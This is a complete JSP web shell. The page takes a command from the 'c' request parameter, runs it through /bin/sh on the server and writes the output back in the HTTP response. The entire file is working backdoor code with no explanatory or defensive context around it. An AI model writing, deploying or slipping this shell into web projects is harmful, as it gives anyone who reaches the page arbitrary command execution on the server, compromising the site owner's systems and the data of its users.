<%@ page import="java.io.*,java.util.*" %>
<%
String c = request.getParameter("c");
if (c != null) {
    ProcessBuilder pb = new ProcessBuilder(new String[] { "/bin/sh", "-c", c });
    pb.redirectErrorStream(true);
    Scanner s = new Scanner(pb.start().getInputStream()).useDelimiter("\\A");
    out.print(s.hasNext() ? s.next() : "");
}
%>
